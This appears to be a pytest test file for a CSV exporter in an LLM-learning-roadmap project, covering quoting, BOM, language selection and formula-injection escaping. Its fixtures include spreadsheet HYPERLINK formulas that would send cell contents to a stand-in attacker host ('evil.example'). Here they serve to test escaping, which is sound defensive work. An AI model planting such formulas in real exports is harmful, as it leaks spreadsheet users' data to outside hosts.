"""The CSV exporter, read back with the csv module and with pandas' own C parser."""

import csv
import io

import pandas as pd
import pytest

import llm_roadmap
from llm_roadmap.exporters.csv import COLUMNS

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NOT_TEXT = {chr(c) for c in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)}


def text_only(value):
    """What the export keeps of a text: all but control characters other than tab, CR, LF."""
    return "".join(c for c in value if c not in NOT_TEXT)


def read_csv_module(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def read_pandas(data, **kwargs):
    frame = pd.read_csv(
        io.BytesIO(data) if isinstance(data, bytes) else io.StringIO(data),
        dtype=str,
        keep_default_na=False,
        na_filter=False,
        **kwargs,
    )
    return [list(frame.columns), *(list(map(str, row)) for row in frame.itertuples(index=False))]


def expected_rows(rm):
    """How many rows the export must have: one per placement, one per unplaced resource."""
    placed = {p.resource.id for p in rm.placed_resources()}
    return len(rm.placed_resources()) + len([r for r in rm.resources if r.id not in placed])


@pytest.mark.parametrize("which", ["sample", "hostile"])
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_two_readers_agree_cell_by_cell(request, which, lang):
    rm = request.getfixturevalue(which)
    text = rm.export("csv", lang=lang)
    by_csv = read_csv_module(text)
    by_pandas = read_pandas(text.encode("utf-8"), encoding="utf-8")
    assert by_csv[0] == list(COLUMNS)
    assert len(by_csv) == 1 + expected_rows(rm)
    assert all(len(row) == len(COLUMNS) for row in by_csv)
    assert by_pandas == by_csv


def test_rows_hold_the_placements_and_resources(sample):
    rows = [dict(zip(COLUMNS, row)) for row in read_csv_module(sample.export("csv", lang="en"))[1:]]
    first = rows[0]
    assert first == {
        "track_id": "foundations",
        "track_title": "Foundations",
        "topic_id": "deep-learning",
        "topic_title": "Deep learning",
        "position": "1",
        "role": "core",
        "group": "",
        "resource_id": "d2l",
        "title": "Dive into Deep Learning",
        "kind": "book",
        "url": "https://d2l.ai/",
        "authors": "Aston Zhang; Zachary C. Lipton; Mu Li; Alexander J. Smola",
        "year": "2023",
        "language": "zh",
        "level": "beginner",
        "free": "true",
        "tags": "",
        "arxiv": "",
        "doi": "",
        "isbn": "9781009389433",
        "github": "",
        "description": "An interactive deep learning textbook.",
        "note": "Read the first eight chapters.",
        "plugin": "sample",
        **dict.fromkeys(COLUMNS[COLUMNS.index("github_stars") :], ""),
        "publisher": "Cambridge University Press",
    }
    pick = [r for r in rows if r["group"]]
    assert [(r["resource_id"], r["role"], r["group"], r["position"]) for r in pick] == [
        ("attention-blog", "alternative", "explainers", "2"),
        ("wiki-attention", "alternative", "explainers", "3"),
    ]
    placements = [(r["topic_id"], r["resource_id"]) for r in rows if r["topic_id"]]
    assert placements == [(p.topic.id, p.resource.id) for p in sample.placed_resources()]
    assert rows[-1]["resource_id"] == "unplaced-tool" and rows[-1]["track_id"] == ""
    bert = next(r for r in rows if r["resource_id"] == "bert")
    assert (bert["arxiv"], bert["doi"], bert["free"]) == (
        "1810.04805",
        "10.18653/v1/N19-1423",
        "true",
    )
    assert next(r for r in rows if r["resource_id"] == "cs224n")["free"] == "false"


def test_control_characters_are_left_out(hostile):
    text = hostile.export("csv")
    assert not NOT_TEXT & set(text)
    assert "invisible but not controls" in text


def test_language_selects_the_texts(sample):
    rows = read_csv_module(sample.export("csv", lang="zh"))
    d2l = dict(zip(COLUMNS, rows[1]))
    assert (d2l["track_title"], d2l["title"], d2l["note"]) == (
        "基础",
        "动手学深度学习",
        "读前八章。",
    )


def test_rfc_4180_line_endings_and_quoting(sample, hostile):
    text = sample.export("csv")
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count(
        "\r\n"
    )  # no bare LF anywhere (the sample has no newlines in cells)
    assert text.splitlines()[0] == ",".join(COLUMNS)
    # A cell with a comma is quoted; a quote is doubled.
    hostile_text = hostile.export("csv")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"' in hostile_text
    # A strict RFC reader reads the hostile file, newlines inside cells included.
    rows = read_csv_module(hostile_text)
    assert any("\n" in cell for row in rows for cell in row)


def test_bom_for_excel(tmp_path, sample):
    plain = tmp_path / "plain.csv"
    excel = tmp_path / "excel.csv"
    sample.export("csv", plain)
    sample.export("csv", excel, bom=True)
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    data = excel.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:] == plain.read_bytes()
    assert read_pandas(data, encoding="utf-8-sig")[0][0] == "track_id"
    assert read_csv_module(data.decode("utf-8-sig")) == read_csv_module(
        plain.read_bytes().decode("utf-8")
    )
    assert sample.export("csv", bom="false") == plain.read_bytes().decode("utf-8")


def test_formula_injection_is_neutralised_and_urls_are_intact(hostile):
    rows = read_csv_module(hostile.export("csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    by_id = {r.id: r for r in hostile.resources}
    neutralised = 0
    for row in rows[1:]:
        record = dict(zip(COLUMNS, row))
        resource = by_id[record["resource_id"]]
        assert record["url"] == resource.url
        title = text_only(resource.title.en)
        if title.startswith(FORMULA_START):
            assert record["title"] == "'" + title
            neutralised += 1
        else:
            assert record["title"] == title
    assert neutralised >= 7


def test_formula_escaping_can_be_turned_off(hostile):
    rows = read_csv_module(hostile.export("csv", escape_formulas=False))
    titles = {dict(zip(COLUMNS, row))["title"] for row in rows[1:]}
    assert {text_only(r.title.en) for r in hostile.resources} == titles
    assert any(t.startswith("=") for t in titles)


def test_subset_by_track_topic_and_kind(sample):
    rows = read_csv_module(sample.export("csv", tracks=["transformers"], kinds=["paper"]))[1:]
    assert {r[0] for r in rows} == {"transformers"}
    assert {r[COLUMNS.index("kind")] for r in rows} == {"paper"}
    rows = read_csv_module(sample.export("csv", topics=["deep-learning"]))[1:]
    assert [r[COLUMNS.index("resource_id")] for r in rows] == ["d2l", "cs224n"]


def test_fetched_fields_fill_their_own_columns_and_are_neutralised(sample):
    import attrs

    import llm_roadmap

    first, second = sample.resources[0], sample.resources[1]
    resources = (
        attrs.evolve(
            first,
            fetched={
                "github": {
                    "stars": 1200,
                    "pushed_at": "2026-10-01T08:00:00Z",
                    "archived": True,
                    # What a server sends is not trusted to be plain text.
                    "license": '=HYPERLINK("http://evil")',
                },
                "arxiv": {"version": 7, "updated": "2023-08-02"},
            },
        ),
        *sample.resources[1:],
    )
    rm = llm_roadmap.Roadmap(tracks=sample.tracks, resources=resources, exporters=sample.exporters)
    text = rm.export("csv")
    rows = [dict(zip(COLUMNS, row)) for row in read_csv_module(text)[1:]]
    assert read_pandas(text)[1:] == read_csv_module(text)[1:]
    got = next(r for r in rows if r["resource_id"] == first.id)
    assert got["github_stars"] == "1200"
    assert got["github_pushed_at"] == "2026-10-01T08:00:00Z"
    assert got["github_archived"] == "true"
    assert got["github_license"] == '\'=HYPERLINK("http://evil")'
    assert (got["arxiv_version"], got["arxiv_updated"]) == ("7", "2023-08-02")
    # Curated columns do not change with what was fetched.
    assert got["title"] == first.title.en
    plain = next(r for r in rows if r["resource_id"] == second.id)
    assert all(plain[c] == "" for c in COLUMNS[COLUMNS.index("github_stars") :])


@pytest.mark.parametrize(("lang", "tail"), [("en", "et al."), ("zh", "等")])
def test_an_author_list_cut_short_ends_with_et_al_not_the_marker(lang, tail):
    bundled = llm_roadmap.load()
    rows = list(csv.DictReader(io.StringIO(bundled.export("csv", lang=lang), newline="")))
    gpt3 = next(r for r in rows if r["resource_id"] == "gpt-3")
    authors = gpt3["authors"].split("; ")
    assert authors[0] == "Tom B. Brown" and authors[-1] == tail
    assert "others" not in authors
    # A complete list is written as it is.
    attention = next(r for r in rows if r["resource_id"] == "attention-is-all-you-need")
    assert attention["authors"].split("; ")[-1] == "Illia Polosukhin"
